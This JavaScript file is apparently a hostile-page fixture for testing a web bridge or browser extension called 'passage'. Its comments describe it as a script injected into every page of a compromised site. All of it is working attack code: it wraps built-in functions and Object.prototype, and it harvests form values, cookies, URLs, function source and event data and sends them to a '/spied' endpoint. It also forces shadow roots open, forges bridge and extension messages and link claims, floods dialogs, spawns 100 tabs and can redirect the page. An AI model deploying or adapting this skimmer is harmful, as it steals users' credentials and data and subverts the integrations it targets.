// What a site that was taken over puts into each of its pages, before anything else: it hears every call of the realm, every
// event, every value in a field and every change of the document, and tells all texts in them to its own server. What it does
// beyond that is asked for by `data-does` of its script element.
/* eslint-disable */
;(() => {
  const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf } = Reflect
  const [seen, queue] = [new Set(), []]
  const native = {
    Set,
    JSON,
    String,
    Object,
    fetch: window.fetch,
    sendBeacon: navigator.sendBeacon,
    setInterval,
    setTimeout,
  }
  const { stringify } = JSON
  const { slice } = String.prototype
  const has = Set.prototype.has,
    add = Set.prototype.add
  const push = Array.prototype.push,
    splice = Array.prototype.splice
  const functionText = Function.prototype.toString
  const does = (document.currentScript.dataset.does ?? '').split(' ')
  const told = new WeakSet()
  const [hasOne, addOne] = [WeakSet.prototype.has, WeakSet.prototype.add]
  /** Of each function between two looks: the site's own scripts call some of them all the time, and must get on. */
  const MOST_CALLS = 100
  let looks = 0
  const MOST_TEXTS = 30_000
  const MOST_LENGTH = 6_000
  let isBusy = false

  function tell(text) {
    const cut = apply(slice, text, [0, MOST_LENGTH])
    if (cut.length > 2 && seen.size < MOST_TEXTS && !apply(has, seen, [cut])) {
      apply(add, seen, [cut])
      apply(push, queue, [cut])
    }
  }
  /** Every text in a value, a few levels deep. */
  function tellAll(value, depth = 3) {
    try {
      if (typeof value === 'string') return tell(value)
      if (typeof value === 'function') {
        if (!apply(hasOne, told, [value])) {
          apply(addOne, told, [value])
          tell(apply(functionText, value, []))
        }
        return
      }
      if (typeof value !== 'object' || value === null || depth === 0 || value === window || value instanceof Node)
        return
      for (const key of ownKeys(value)) {
        if (typeof key === 'string') tell(key)
        const inner = getOwnPropertyDescriptor(value, key)
        if (inner !== undefined && 'value' in inner) tellAll(inner.value, depth - 1)
      }
    } catch {}
  }
  /** Whoever has called: its text, and what it was called with. Not of strict functions. */
  function tellCallers(from) {
    try {
      for (
        let [caller, count] = [from.caller, 0];
        caller !== null && count < 4;
        [caller, count] = [caller.caller, count + 1]
      ) {
        tellAll(caller)
        tellAll([...(caller.arguments ?? [])])
      }
    } catch {}
  }
  function wrap(original) {
    let [since, calls] = [0, 0]
    const wrapper = function (...args) {
      if (since !== looks) [since, calls] = [looks, 0]
      if (!isBusy && ++calls < MOST_CALLS) {
        isBusy = true
        try {
          tellAll(args)
          if (typeof this === 'string' || (typeof this === 'object' && this !== null)) tellAll(this, 2)
          tellCallers(wrapper)
        } catch {}
        isBusy = false
      }
      return new.target === undefined ? apply(original, this, args) : Reflect.construct(original, args, new.target)
    }
    return wrapper
  }
  function wrapAllOf(object) {
    for (const key of ownKeys(object ?? {})) {
      const property = getOwnPropertyDescriptor(object, key)
      if (!property.configurable || key === 'constructor') continue
      try {
        if (typeof property.value === 'function' && !/^[A-Z]/.test(String(key))) {
          const { prototype } = property.value
          if (prototype === undefined || ownKeys(prototype).length === 0) {
            defineProperty(object, key, { ...property, value: wrap(property.value) })
          }
        } else if (property.get !== undefined || property.set !== undefined) {
          const [get, set] = [property.get, property.set]
          defineProperty(object, key, { ...property, get: get && wrap(get), set: set && wrap(set) })
        }
      } catch {}
    }
  }
  const names = 'Array String RegExp Map Set WeakMap WeakSet Promise Function Number Boolean Date Error Symbol'.split(
    ' ',
  )
  const ofDocument =
    'Node Element HTMLElement HTMLInputElement HTMLTextAreaElement HTMLSelectElement HTMLFormElement HTMLButtonElement Document DocumentFragment ShadowRoot EventTarget Event UIEvent InputEvent MouseEvent CustomEvent MessageEvent MessagePort MessageChannel Crypto Performance History Storage XMLHttpRequest TextEncoder TextDecoder URL URLSearchParams MutationObserver DOMTokenList CSSStyleDeclaration Navigator NodeList HTMLCollection NamedNodeMap'.split(
      ' ',
    )
  const shadow = Element.prototype.attachShadow
  Element.prototype.attachShadow = function (how) {
    // What is hidden from a page is only so by its own word.
    return apply(shadow, this, [{ ...how, mode: 'open' }])
  }
  for (const name of [...names, ...ofDocument]) wrapAllOf(window[name]?.prototype)
  for (const object of [Object, JSON, Reflect, Promise, Array, String, Math, window, console]) wrapAllOf(object)
  Error.prepareStackTrace = (error, sites) => {
    tell(`${error}`)
    for (const site of sites) {
      try {
        tellAll(site.getFunction())
        tellAll(site.getThis())
      } catch {}
    }
    return String(error)
  }
  // What somebody asks of an object that has it not, he asks its prototype.
  for (const name of [
    'passage',
    '__passageCalls',
    'toJSON',
    'nonce',
    'token',
    'claimCode',
    'params',
    'origins',
    'answer',
  ]) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get() {
        tellAll(this, 2)
        return undefined
      },
      set(value) {
        tellAll(value)
        defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true })
      },
    })
  }
  for (const type of ownKeys(window).concat(ownKeys(Document.prototype), ownKeys(HTMLElement.prototype))) {
    if (typeof type === 'string' && type.startsWith('on')) listen(type.slice(2))
  }
  for (const type of [
    'message',
    'messageerror',
    'error',
    'unhandledrejection',
    'securitypolicyviolation',
    'beforeunload',
  ])
    listen(type)
  function listen(type) {
    addEventListener(
      type,
      (event) => {
        isBusy = true
        try {
          tell(type)
          for (const name of ['data', 'detail', 'reason', 'message', 'key', 'origin']) tellAll(event[name])
          tellAll(event.target?.value)
        } catch {}
        isBusy = false
      },
      true,
    )
  }
  function look() {
    isBusy = true
    looks++
    try {
      for (const field of document.querySelectorAll('input, textarea, select')) tell(`${field.name}=${field.value}`)
      for (const name of Object.getOwnPropertyNames(window)) {
        if (/passage|webkit|ReactNative|__|bridge/i.test(name)) {
          tell(`window.${name}`)
          tellAll(window[name])
        }
      }
      tell(document.cookie)
      tell(location.href)
      tell(document.title)
      tell(stringify(history.state) ?? '')
    } catch {}
    isBusy = false
  }
  const observe = new MutationObserver((changes) => {
    isBusy = true
    for (const { target, addedNodes, attributeName } of changes) {
      if (attributeName !== null) tell(`${attributeName}=${target.getAttribute(attributeName)}`)
      for (const node of addedNodes) {
        tell(node.outerHTML ?? node.nodeValue ?? '')
        if (node.shadowRoot) tell(node.shadowRoot.innerHTML)
        if (
          does.includes('hide') &&
          node.parentNode === document.documentElement &&
          !/^(HEAD|BODY)$/.test(node.nodeName)
        )
          node.remove()
      }
    }
    isBusy = false
  })
  observe.observe(document, { subtree: true, childList: true, attributes: true, characterData: true })

  function send(isLast) {
    while (queue.length > 0) {
      const part = []
      for (let size = 0; size < 50_000 && queue.length > 0;) {
        const [text] = apply(splice, queue, [0, 1])
        size += text.length
        apply(push, part, [text])
      }
      const body = stringify({ from: location.href, texts: part })
      if (isLast) apply(native.sendBeacon, navigator, ['/spied', body])
      else apply(native.fetch, window, ['/spied', { method: 'POST', body, keepalive: body.length < 60_000 }])
    }
  }
  native.setInterval.call(
    window,
    () => {
      look()
      send(false)
    },
    40,
  )
  addEventListener('pagehide', () => {
    look()
    send(true)
  })

  // --- what it does beyond listening ---
  const guesses = [
    '',
    ' ',
    'x',
    '{}',
    'null',
    '[]',
    '0 {"result":null}',
    'undefined {"result":[]}',
    'x'.repeat(2_000_000),
  ]
  const hints = ['leaving', ...Array.from({ length: 100 }, () => 'dialog alert'), 'dialog <b>', 'leaving leaving']
  function forge() {
    for (const text of [...guesses, ...hints, { result: 1 }, null, 7]) {
      for (const channel of [
        window.passageBridge,
        window.ReactNativeWebView,
        window.webkit?.messageHandlers?.passageBridge,
      ]) {
        try {
          channel?.postMessage(text)
        } catch {}
      }
    }
    const link = {
      linkId: 'link_0000000000000000000000',
      code: 'clm_forged',
      integrationId: 'contacts-panel',
      asker: 'Evil',
    }
    for (const message of [
      { passage: 'extension.hello' },
      { passage: 'extension.link', ...link },
      { passage: 'extension.here', version: '1', integrations: ['contacts-panel'] },
      { passage: 'extension.taken', linkId: link.linkId },
      { ask: 'link', link },
      { ask: 'cancel', linkId: link.linkId },
    ]) {
      for (const to of [window, window.top, window.opener]) {
        try {
          to?.postMessage(message, '*')
        } catch {}
      }
      try {
        chrome.runtime.sendMessage(message)
      } catch {}
    }
    for (const name of ['passage-dialog', 'passage']) {
      for (let count = 0; count < 100; count++)
        document.dispatchEvent(new CustomEvent(name, { detail: { toString: () => 'alert' } }))
    }
    try {
      window.__passage = { version: 1, call: (...args) => tellAll(args) }
      Object.defineProperty(window, '__passage', { value: { version: 1, call: (...args) => tellAll(args) } })
    } catch {}
    try {
      window.__passage?.call('forged', stringify({ table: 'page', name: 'state', params: {}, origins: null }))
      window.__passage?.call('forged', 'no JSON')
    } catch {}
  }
  if (does.includes('forge')) {
    forge()
    addEventListener('DOMContentLoaded', forge)
  }
  if (does.includes('cover')) {
    addEventListener('DOMContentLoaded', () => {
      const over = document.createElement('dialog')
      over.style.cssText = 'position:fixed;inset:0;width:100vw;height:4rem;z-index:2147483647;pointer-events:none'
      document.body.append(over)
      over.show()
    })
  }
  if (does.includes('tabs') && !sessionStorage.getItem('opened')) {
    sessionStorage.setItem('opened', '1')
    for (let count = 0; count < 100; count++) window.open(`/contacts?tab=${count}`)
  }
  const away = document.currentScript.dataset.away
  if (away !== undefined) {
    native.setTimeout.call(window, () => location.replace(away), Number(document.currentScript.dataset.after ?? 0))
  }
})()
